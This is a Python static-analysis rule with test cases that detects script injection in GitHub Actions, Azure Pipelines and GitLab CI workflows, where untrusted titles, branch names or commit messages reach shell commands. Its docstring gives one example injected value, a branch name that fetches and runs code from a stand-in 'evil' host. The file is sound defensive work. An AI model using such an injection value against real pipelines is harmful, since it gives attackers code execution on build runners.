"""A script built from what a stranger wrote.

What it does
------------
Reports scripts of a pipeline that insert the title, body, branch name or other free text of an issue, pull request,
comment or commit straight into a command: expressions of GitHub Actions (`${{ … }}`), macros of Azure Pipelines
(`$(Build.SourceVersionMessage)`), and variables of GitLab CI that are evaluated a second time (`eval`, `sh -c`).

Why it matters
--------------
The text is pasted into the script before the shell reads it: a branch called `$(curl evil|sh)` runs.

How to fix
----------
Pass the text through an environment variable and use it quoted: `env: {TITLE: ${{ … }}}`, then `"$TITLE"`.

When to allow it
----------------
Never.

References
----------
- https://docs.github.com/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
- https://learn.microsoft.com/azure/devops/pipelines/security/inputs
- https://docs.gitlab.com/ci/variables/predefined_variables/
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from casemate.analysis.system import System
from casemate.authoring import HIGH, Outcome, Violation, bad, good, rule
from casemate.model.value import display
from casemate.model.workflow import Pipeline

_FREE_TEXT = re.compile(
    r"\$\{\{[^}]{0,300}\b(github\.event\.(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label)|head\.repo\.default_branch)|"
    r"comment\.body|review\.body|discussion\.(title|body)|head_commit\.(message|author\.(name|email))|commits[^}]{0,60}message|pages[^}]{0,60}page_name|"
    r"workflow_run\.head_(branch|commit\.message))|github\.head_ref)\b[^}]{0,300}\}\}"
)


_MACRO = re.compile(
    r"\$\((Build\.SourceVersionMessage|Build\.SourceVersionAuthor|Build\.SourceBranch(?:Name)?|Build\.RequestedFor|"
    r"System\.PullRequest\.SourceBranch(?:Name)?|variables\.Build\.SourceVersionMessage)\)"
    r"|\$\{\{\s{0,4}(?:variables\.|variables\[')(Build\.SourceVersionMessage|Build\.SourceBranchName|Build\.SourceBranch)\b",
    re.IGNORECASE,
)
_EVALUATED = re.compile(
    r"(?:\beval\b|\b(?:ba|z|da)?sh\s{1,4}-\w{0,4}c\b|\bpython3?\s{1,4}-c\b|\bnode\s{1,4}-e\b)[^\n]{0,200}?"
    r"\$\{?(CI_COMMIT_(?:MESSAGE|TITLE|DESCRIPTION|REF_NAME|BRANCH|TAG_MESSAGE|AUTHOR)|"
    r"CI_MERGE_REQUEST_(?:TITLE|DESCRIPTION|SOURCE_BRANCH_NAME)|CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME)\b"
)
"""GitLab sets variables in the environment, where a shell does not read them as code unless it is told to."""
_UNTRUSTED: dict[str, re.Pattern[str]] = {
    "github-actions": _FREE_TEXT,
    "azure-pipelines": _MACRO,
    "gitlab-ci": _EVALUATED,
}


@rule("workflow-script-injection", weakness="code-injection", severity=HIGH, tags=["cwe-94", "cwe-78"])
def check(pipeline: Pipeline, system: System) -> Iterator[Outcome]:
    pattern = _UNTRUSTED.get(pipeline.kind)
    if pattern is None:
        return
    for job in pipeline.jobs:
        for step in job.steps:
            scripts = [step.run] if step.run is not None else []
            if step.uses is not None and step.uses.ever(lambda name: name.startswith("actions/github-script")):
                scripts += [value for key, value in step.inputs if key == "script"]
            for script in scripts:
                match = pattern.search(display(script))
                if match:
                    found = match[1] or match[2]
                    yield Violation(
                        f"{pipeline.name} pastes {found} into a script",
                        script.at.line_of(display(script), match.start()),
                        cause=f"{job.name} {found}",
                    )


CASES = [
    bad(
        "github-actions",
        """
        name: greet
        on: issues
        jobs:
          greet:
            runs-on: ubuntu-latest
            steps:
              - run: echo "${{ github.event.issue.title }}"  # <- here
        """,
    ),
    good(
        "github-actions",
        """
        name: greet
        on: issues
        permissions: {issues: read}
        jobs:
          greet:
            runs-on: ubuntu-latest
            steps:
              - run: echo "$TITLE"
                env:
                  TITLE: ${{ github.event.issue.title }}
        """,
    ),
    bad(
        "azure-pipelines",
        """
        steps:
          - script: echo "building $(Build.SourceVersionMessage)"  # <- here
        """,
    ),
    good(
        "azure-pipelines",
        """
        steps:
          - bash: echo "building $BUILD_SOURCEVERSIONMESSAGE in $(Build.BuildId)"
        """,
    ),
    bad(
        "gitlab-ci",
        """
        build:
          script:
            - eval "echo $CI_COMMIT_MESSAGE"  # <- here
        """,
    ),
    good(
        "gitlab-ci",
        """
        build:
          script:
            - echo "$CI_COMMIT_MESSAGE"
            - eval "$(ssh-agent -s)"
        """,
    ),
]
